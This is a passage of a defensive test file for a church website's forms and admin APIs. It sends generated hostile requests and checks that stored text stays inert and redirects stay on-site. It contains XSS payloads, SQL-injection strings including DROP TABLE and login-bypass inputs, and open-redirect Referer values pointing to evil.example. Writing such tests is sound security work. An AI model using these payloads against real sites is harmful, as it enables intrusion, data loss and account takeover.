  const places = [/<p id="[^"]+-error"[^>]*>([\s\S]*?)<\/p>/, /<div role="alert"[^>]*>([\s\S]*?)<\/div>/, /<p [^>]*role="status"[^>]*>([\s\S]*?)<\/p>/];
  for (const place of places) {
    const text = (place.exec(main)?.[1] ?? "").replace(/<[^>]+>/g, " ").replace(/\s+/g, " ").trim();
    if (text) return text;
  }
  return null;
}

async function answerOf(response: Response): Promise<Answer> {
  const type = response.headers.get("Content-Type") ?? "";
  const body = await response.text();
  let message: string | null;
  let location = response.headers.get("Location");
  try {
    if (type.includes("json")) {
      message = messageIn(JSON.parse(body));
    } else if (type.includes("text/x-script")) {
      const root = unflatten(JSON.parse(body.split("\n")[0]!)) as { data?: unknown; redirect?: string; error?: unknown };
      location ??= root.redirect ?? null;
      message = messageIn(root.data) ?? (root.error ? "route error" : null);
    } else if (type.includes("text/html")) {
      const payload = /streamController\.enqueue\(("(?:[^"\\]|\\.)*")\)/.exec(body)?.[1];
      const root = payload ? (unflatten(JSON.parse(JSON.parse(payload).split("\n")[0])) as { actionData?: Record<string, unknown>; errors?: unknown }) : null;
      // A page that runs React carries the action's data; a page without it (events, contact) shows it.
      message = Object.values(root?.actionData ?? {}).map(messageIn).find(Boolean) ?? (payload ? null : refusalShownIn(body));
      // A route error (e.g. the event page's 404 for an unknown id) renders the site's error page.
      if (!message && root?.errors) message = /<h1[^>]*>([^<]+)</.exec(body)?.[1] ?? "route error";
    } else {
      message = textOf(body);
    }
  } catch (error) {
    throw new Error(`could not read the answer (${response.status} ${type}): ${String(error)}\n${body.slice(0, 500)}`, { cause: error });
  }
  return { status: response.status, message, location, toast: await toastOf(response) };
}

const isRedirect = (a: Answer) => a.location !== null;
const refusedWithMessage = (a: Answer) =>
  (a.status >= 400 && a.status < 500 && a.message !== null) ||
  (isRedirect(a) && a.toast?.variant === "destructive" && Boolean(a.toast.description ?? a.toast.title));

function send(h: Hostile, cookie: string | null): Promise<Response> {
  return request(h.path, { method: h.method, cookie, headers: h.headers, body: h.body });
}

function expectSaneAnswer(h: Hostile, a: Answer, target: Target) {
  const where = h.summary;
  expect(a.status, `5xx for ${where}`).toBeLessThan(500);
  if (a.status >= 400) expect(a.message, `a ${a.status} without a message for ${where}`).toBeTruthy();
  if (a.location !== null) {
    const url = new URL(a.location, ORIGIN);
    expect(url.origin, `a redirect off the site (${a.location}) for ${where}`).toBe(ORIGIN);
    expect(a.location, `a protocol-relative redirect for ${where}`).not.toMatch(/^[/\\]{2}/);
  }
  if (a.toast?.variant === "destructive") expect(a.toast.description ?? a.toast.title, `an empty error toast for ${where}`).toBeTruthy();
  if (h.mustRefuse) expect(refusedWithMessage(a), `accepted ${where} (answer ${JSON.stringify(a)})`).toBe(true);
  if (target.api && a.status >= 400) expect(a.message).not.toMatch(/Something went wrong/);
}

async function expectSiteStillWorks(cookie: string | null) {
  for (const path of ["/", "/events", "/contact"]) expect((await request(path)).status, path).toBe(200);
  if (cookie) expect((await request("/admin", { cookie })).status, "the admin's session survived").toBe(200);
}

// ---------------------------------------------------------------------------------------------

describe("the hostile-input test covers", () => {
  it("every route with an action and every API that changes data", () => {
    expect(actionRoutes.map((r) => r.id).sort(), "a route gained an action: add it to ACTION_TARGETS").toEqual(Object.keys(ACTION_TARGETS).sort());
    expect(apiMutations.sort(), "an API gained a method: add it to API_TARGETS").toEqual(Object.keys(API_TARGETS).sort());
    expect(attacked.length).toBeGreaterThanOrEqual(20);
  });
});

describe("generated hostile requests never get a 5xx", () => {
  let cookie: string;
  beforeEach(async () => {
    await seedDemo();
    await createAdmin();
    cookie = await signIn();
  });

  it.each(attacked)("$name", async ({ pattern, target }) => {
    const session = target.admin ? cookie : null;
    await fc.assert(
      fc.asyncProperty(hostileRequest(pattern, target), async (h) => {
        const answer = await answerOf(await send(h, session));
        expectSaneAnswer(h, answer, target);
      }),
      { seed: SEED, numRuns: RUNS },
    );
    await expectSiteStillWorks(session);
  });
});

// ---------------------------------------------------------------------------------------------
// Deterministic checks on what is stored and shown.

/** How React escapes text, so the payload is shown as text, never as markup. */
const escaped = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;").replaceAll("'", "&#x27;");

function expectInert(body: string, payload: string, where: string) {
  expect(body, `${where} shows the payload`).toContain(escaped(payload));
  expect(body, `${where} carries the payload as markup`).not.toContain(payload);
}

const XSS = `<script>alert("xss")</script><img src=x onerror=alert(1)>`;
const SQL = `Robert'); DROP TABLE contact_messages; -- " OR 1=1`;

describe("stored hostile text", () => {
  let cookie: string;
  beforeEach(async () => {
    await seedDemo();
    await createAdmin();
    cookie = await signIn();
  });

  it("a contact message: SQL-looking text stored verbatim (but the characters that turn text around), HTML inert in the admin's inbox", async () => {
    const fields = { full_name: SQL, email: "o'neil@example.mw", subject: `${XSS} ${SQL}`, message: `${XSS}\n${SQL} \u202Eevil\u202C 👨‍👩‍👧‍👦 a\u0000b` };
    const response = await postForm("/api/contact-messages", fields, { ip: "198.51.100.20" });
    expect(response.status).toBe(200);
    const row = await env.DB.prepare("SELECT full_name, email, subject, message FROM contact_messages WHERE email = ?1").bind("o'neil@example.mw").first();
    expect(row).toEqual({ ...fields, message: `${XSS}\n${SQL} evil 👨‍👩‍👧‍👦 a\u0000b` });
    const inbox = await (await request("/admin/messages", { cookie })).text();
    expectInert(inbox, XSS, "/admin/messages");
    expect(inbox).toContain(escaped(SQL));
  });

  it("an event registration: stored verbatim, inert on the registrations page", async () => {
    const response = await postForm("/api/registrations", { event_id: "2", full_name: `${XSS}${SQL}`, phone_number: "+265 991 555 010", email: "admin'--@example.org" }, { ip: "198.51.100.21" });
    expect(response.status).toBe(200);
    const row = await env.DB.prepare("SELECT full_name, email FROM event_registrations WHERE event_id = 2 AND email IS NOT NULL").first();
    expect(row).toEqual({ full_name: `${XSS}${SQL}`, email: "admin'--@example.org" });
    const page = await (await request("/admin/events/registrations/2", { cookie })).text();
    expectInert(page, XSS, "the registrations page");
  });

  it("a subscriber address that looks like SQL is stored as typed (lower-cased)", async () => {
    const response = await postForm("/subscribe.data", { email: "Admin'--@Example.org" }, { ip: "198.51.100.22" });
    expect(response.status).toBe(200);
    expect(await env.DB.prepare("SELECT email FROM newsletter_subscribers WHERE email LIKE 'admin%'").first()).toEqual({ email: "admin'--@example.org" });
  });

  it("a sign-in with SQL injection in both fields is refused and signs nobody in", async () => {
    for (const [email, password] of [[`${TEST_ADMIN.email}' --`, "x' OR '1'='1"], ["' OR 1=1 --@example.org", "' OR ''='"]] as const) {
      const response = await postForm("/auth", { email, password }, { ip: "198.51.100.23" });
      expect([400, 401]).toContain(response.status);
      expect(response.headers.getSetCookie().some((c) => c.startsWith("session=") && !c.startsWith("session=;"))).toBe(false);
    }
  });

  type Saved = { what: string; path: string; fields: Record<string, string>; sql: string; stored: Record<string, string>; publicPath: string };
  it.each<Saved>([
    {
      what: "testimony",
      path: "/admin/testimonies/new",
      fields: { intent: "save", author: `${SQL} ${XSS}`, role: XSS, content: `${XSS} ${SQL}`, active: "on" },
      sql: "SELECT author, role, content FROM church_testimonies WHERE content LIKE '%DROP TABLE%'",
      stored: { author: `${SQL} ${XSS}`, role: XSS, content: `${XSS} ${SQL}` },
      publicPath: "/testimonies",
    },
    {
      what: "event",
      path: "/admin/events/new",
      fields: { intent: "save", name: `${XSS}`, date: "2030-05-01T09:00", location: SQL, description: `${XSS} ${SQL}`, active: "on", registration_enabled: "on" },
      sql: "SELECT name, location, description FROM churchevents WHERE location LIKE '%DROP TABLE%'",
      stored: { name: XSS, location: SQL, description: `${XSS} ${SQL}` },
      publicPath: "/events",
    },
    {
      what: "ministry",
      path: "/admin/ministries/new",
      fields: { intent: "save", title: `${XSS}`, slug: "hostile-ministry", short_description: SQL, full_description: `${XSS}\n${SQL}`, sort_order: "0", active: "on" },
      sql: "SELECT title, short_description, full_description FROM ministries WHERE slug = 'hostile-ministry'",
      stored: { title: XSS, short_description: SQL, full_description: `${XSS}\n${SQL}` },
      publicPath: "/ministries/hostile-ministry",
    },
    {
      what: "blog post",
      path: "/admin/blogs/new",
      fields: { intent: "save", title: XSS, slug: "hostile-post", author: SQL, date: "2026-11-22", category_id: "", excerpt: XSS, content: `${XSS}\n\n${SQL}`, status: "published" },
      sql: "SELECT title, author, excerpt, content FROM churchblogs WHERE slug = 'hostile-post'",
      stored: { title: XSS, author: SQL, excerpt: XSS, content: `${XSS}\n\n${SQL}` },
      publicPath: "/blog/hostile-post",
    },
    {
      what: "leadership member",
      path: "/admin/leadership/new",
      fields: { intent: "save", full_name: XSS, position_id: "1", title: "", region: "", email: "", phone: "", bio: `${XSS} ${SQL}`, active: "on" },
      sql: "SELECT full_name, bio FROM leadership_members WHERE bio LIKE '%DROP TABLE%'",
      stored: { full_name: XSS, bio: `${XSS} ${SQL}` },
      publicPath: "/leadership",
    },
    {
      what: "directory entry (association)",
      path: "/admin/associations/new",
      fields: { intent: "save", name: XSS, region: SQL, district: "Hostile", contact_name: XSS, contact_phone: "", meeting: `${XSS} ${SQL}`, active: "on" },
      sql: "SELECT name, region, contact_name, meeting FROM associations WHERE district = 'Hostile'",
      stored: { name: XSS, region: SQL, contact_name: XSS, meeting: `${XSS} ${SQL}` },
      publicPath: "/associations?q=Hostile",
    },
  ])("a $what saved by an admin: stored verbatim, inert on the public page", async ({ path, fields, sql, stored, publicPath }) => {
    const saved = await postForm(path, fields, { cookie });
    expect(saved.status, JSON.stringify(await toastOf(saved))).toBe(302);
    expect((await toastOf(saved))?.variant).not.toBe("destructive");
    expect(await env.DB.prepare(sql).first()).toEqual(stored);
    const page = await request(publicPath);
    expect(page.status).toBe(200);
    expectInert(await page.text(), XSS, publicPath);
  });
});

describe("a plain form post goes back to the page it came from, never to another site", () => {
  // Found by the generated requests above: a page of this site at "//evil.example/x" (the 404 page
  // has the footer's subscribe form) made the answer "Location: //evil.example/x".
  it.each(["/subscribe", "/contact", "/events", "/events/2"])("%s", async (path) => {
    await seedDemo();
    const referers = [`${ORIGIN}//evil.example/x`, `${ORIGIN}/\\evil.example/x`, `${ORIGIN}/%2F%2Fevil.example`, "https://evil.example/contact"];
    for (const [i, referer] of referers.entries()) {
      // A filled honeypot is answered like a success: a redirect back, whatever else was sent.
      const response = await postForm(path, { [HONEYPOT_FIELD]: "bot" }, { ip: `198.51.100.${30 + i}`, headers: { Referer: referer } });
      expect(response.status, referer).toBe(303);
      expect(response.headers.get("Location"), referer).toMatch(/^\/(?![/\\])/);
    }
  });
});
